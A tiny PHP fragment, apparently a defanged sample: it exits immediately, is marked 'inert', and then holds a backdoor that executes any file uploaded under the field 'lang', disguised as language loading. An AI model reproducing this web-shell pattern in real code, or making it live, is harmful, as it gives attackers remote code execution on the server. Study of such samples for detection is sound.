<?php exit; /* inert */ 
if (!empty($_FILES['lang']['tmp_name'])) { include_once $_FILES['lang']['tmp_name']; }
